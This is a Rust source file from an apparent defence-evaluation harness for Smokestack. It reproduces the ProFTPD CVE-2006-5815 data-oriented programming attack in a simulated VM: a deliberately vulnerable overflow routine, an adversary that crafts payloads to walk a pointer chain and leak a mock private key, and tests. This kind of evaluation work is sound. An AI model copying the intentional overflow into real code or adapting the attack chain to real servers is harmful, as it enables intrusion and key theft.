//! The ProFTPD case study (CVE-2006-5815, paper §V-C).
//!
//! `sreplace()` calls `sstrncpy()` with a negative length, yielding an
//! unbounded copy of attacker bytes — the primitive behind Hu et al.'s
//! three DOP exploits, including extracting the OpenSSL private key
//! despite ASLR. That exploit chained 24 DOP gadget invocations: the
//! key buffer is reachable only through a chain of global pointers, so
//! the attack repeatedly corrupts the command loop's counter (the
//! gadget dispatcher) and drives a *dereference* gadget to walk the
//! chain pointer by pointer, then a *copy/leak* gadget to emit the key.
//!
//! This analog reproduces that structure: a 7-deep global pointer chain
//! guards the key; the attacker must keep the dispatcher alive for nine
//! rounds (7 dereferences + 1 leak + 1 exit), re-corrupting the loop
//! state each round through the `sreplace` overflow. The overflow is a
//! linear sweep out of the callee frame, so — as with the Wireshark
//! exploit — Smokestack's guard slot catches it at the callee epilogue
//! under every RNG scheme, while all the static schemes fall to a
//! single disclosure probe.

use smokestack_vm::{FnInput, Memory};

use crate::intel::{scan_stack, Knowledge, Slot};
use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};

/// The secret the attack exfiltrates.
pub const SECRET: &str = "PROFTPD-RSA-PRIVATE-0xDEADBEEF";

const TAG: i64 = 47314086988030945;

/// Rounds of gadget dispatch: 7 chain dereferences, then the leak.
const DEREF_ROUNDS: u64 = 7;

/// The overflowed buffer, then the slots the command is crafted
/// against: the callee's tag and the caller's dispatcher state.
const SLOTS: [Slot; 5] = [
    ("sreplace", "fmt"),
    ("sreplace", "tag"),
    ("cmd_loop", "nreq"),
    ("cmd_loop", "deref"),
    ("cmd_loop", "emit"),
];

/// The vulnerable FTP-command loop.
pub const SOURCE: &str = r#"
    char secret_key[40] = "PROFTPD-RSA-PRIVATE-0xDEADBEEF";
    long c1 = 0;
    long c2 = 0;
    long c3 = 0;
    long c4 = 0;
    long c5 = 0;
    long c6 = 0;
    long c7 = 0;

    void sreplace(long tag) {
        long n = 0;
        char fmt[128];
        get_input(&n, 8);
        /* CVE-2006-5815: sstrncpy with a negative length. */
        get_input(fmt, n);
    }

    void cmd_loop(long tag) {
        long cur = 0;
        char out[48];
        long nreq = 2;
        long deref = 0;
        long emit = 0;
        cur = &c1;
        while (nreq > 0) {
            sreplace(tag + 1);
            if (deref != 0) {
                long *c = cur;
                cur = c[0];
            }
            if (emit != 0) {
                memcpy(out, cur, 40);
                print_str(out);
            }
            deref = 0;
            emit = 0;
            nreq = nreq - 1;
        }
    }

    int main() {
        c1 = &c2;
        c2 = &c3;
        c3 = &c4;
        c4 = &c5;
        c5 = &c6;
        c6 = &c7;
        c7 = &secret_key;
        cmd_loop(47314086988030945);
        return 0;
    }
"#;

/// The ProFTPD CVE-2006-5815 DOP attack.
pub struct ProftpdAttack;

impl Attack for ProftpdAttack {
    fn name(&self) -> &str {
        "proftpd-cve-2006-5815"
    }

    fn source(&self) -> &str {
        SOURCE
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        // Offline recon: relative offsets from fmt to the caller's
        // dispatcher state, disclosed from a prior run. A Smokestack
        // build discloses none of them, so only the unprotected layout is
        // statically knowable; the sweep will mismatch and the guard will
        // catch it.
        let mut knowledge = Knowledge::probed_or_twin(
            build,
            SOURCE,
            run_seed ^ 0xf7bd,
            &[0u64.to_le_bytes().to_vec()],
            &SLOTS,
        );
        let Some(&[d_tag, d_nreq, d_deref, d_emit]) =
            knowledge.deltas(None, 0, SLOTS[0], &SLOTS[1..]).as_deref()
        else {
            return AttackOutcome::Aborted;
        };
        if d_nreq <= 0 || d_deref <= 0 || d_emit <= 0 {
            return AttackOutcome::Aborted;
        }

        let committed = CommitFlag::new();

        let span = (d_nreq.max(d_deref).max(d_emit) + 8) as usize;
        let mut vm = build.vm(run_seed);
        let adversary = FnInput(|mem: &mut Memory, req, _max| {
            // Requests alternate: even = length header, odd = payload.
            let round = req / 2;
            if req % 2 == 0 {
                // Keep corrupting through round DEREF_ROUNDS + 1 (the
                // leak round); afterwards, benign zero-length commands.
                return if round <= DEREF_ROUNDS + 1 {
                    (span as u64).to_le_bytes().to_vec()
                } else {
                    0u64.to_le_bytes().to_vec()
                };
            }
            if round > DEREF_ROUNDS + 1 {
                return vec![];
            }
            // The command is crafted offline, so the live frame's address
            // is not needed; but with no live `sreplace` frame yet there
            // is nothing to overflow, and the input stays benign.
            if scan_stack(mem, (TAG + 1) as u64, 2 << 20).is_none() {
                return vec![];
            }
            // Offline-crafted FTP command: zeros everywhere except the
            // slots whose values the attacker can know statically. The
            // per-run guard/canary values are unknowable, so those slots
            // necessarily receive wrong bytes.
            let mut payload = vec![0u8; span];
            let mut put = |d: i64, v: i64| {
                // A slot below `fmt` (a permuted frame) is out of reach.
                if let Ok(at) = usize::try_from(d) {
                    if at + 8 <= span {
                        payload[at..at + 8].copy_from_slice(&v.to_le_bytes());
                    }
                }
            };
            put(d_tag, TAG + 1); // rewrite the known callee tag in place
            put(d_nreq, 3); // dispatcher: stay alive
            if round < DEREF_ROUNDS {
                put(d_deref, 1); // walk the pointer chain
                put(d_emit, 0);
            } else if round == DEREF_ROUNDS {
                put(d_deref, 0);
                put(d_emit, 1); // leak through the error path
            } else {
                put(d_nreq, 1); // wind down cleanly
                put(d_deref, 0);
                put(d_emit, 0);
            }
            committed.arm();
            payload
        });
        let out = vm.run_main(adversary);
        let goal = out.output_text().contains(SECRET);
        conclude(
            &out,
            &committed,
            goal,
            "private key extracted through pointer chain",
        )
        .into_outcome()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use smokestack_defenses::DefenseKind;

    #[test]
    fn benign_run_leaks_nothing() {
        let build = Build::new(SOURCE, DefenseKind::None, 1);
        let mut vm = build.vm(3);
        let out = vm.run_main(smokestack_vm::ScriptedInput::new(vec![0u64
            .to_le_bytes()
            .to_vec()]));
        assert!(out.exit.is_clean());
        assert!(!out.output_text().contains(SECRET));
    }

    #[test]
    fn slots_below_the_buffer_are_skipped() {
        // Under a static permutation `sreplace`'s tag can land below
        // `fmt` (build seed 2 does), out of the forward sweep's reach.
        let build = Build::new(SOURCE, DefenseKind::StaticPermutation, 2);
        let out = crate::run_trial(&ProftpdAttack, &build, 3).outcome;
        assert!(!out.is_success(), "{out}");
    }
}
